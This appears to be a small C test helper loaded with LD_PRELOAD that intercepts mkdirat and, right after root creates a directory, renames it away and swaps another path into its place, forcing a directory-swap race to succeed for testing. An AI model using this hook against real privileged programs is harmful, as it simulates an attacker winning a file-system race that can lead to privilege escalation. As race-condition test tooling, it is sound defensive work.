// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * swap_mkdir.c - plays the owner of a directory in which root makes another one: as soon as that is
 * made, it is renamed, and $SWAP_WITH has its name. For LD_PRELOAD; so the race is always won.
 */
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/types.h>

int mkdirat(int dirfd, const char *path, mode_t mode)
{
	int (*real)(int, const char *, mode_t) = (int (*)(int, const char *, mode_t))
						 dlsym(RTLD_NEXT, "mkdirat");
	int err = real(dirfd, path, mode);

	if (err || renameat(dirfd, path, dirfd, "moved-away") ||
	    rename(getenv("SWAP_WITH"), getenv("SWAP_TO")))
		return -1;
	return 0;
}
